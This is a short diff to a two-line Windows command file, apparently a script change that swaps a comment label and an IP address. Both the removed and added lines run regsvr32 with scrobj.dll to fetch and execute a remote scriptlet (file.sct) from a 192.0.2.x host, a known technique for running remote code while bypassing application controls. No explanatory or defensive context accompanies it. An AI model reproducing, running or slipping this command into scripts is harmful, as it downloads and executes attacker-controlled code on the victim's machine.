@@ -1,2 +1,2 @@
-REM run 7829 v3
-regsvr32 /s /n /u /i:http://192.0.2.150/file.sct scrobj.dll
+REM bootstrap 5726 v3
+regsvr32 /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
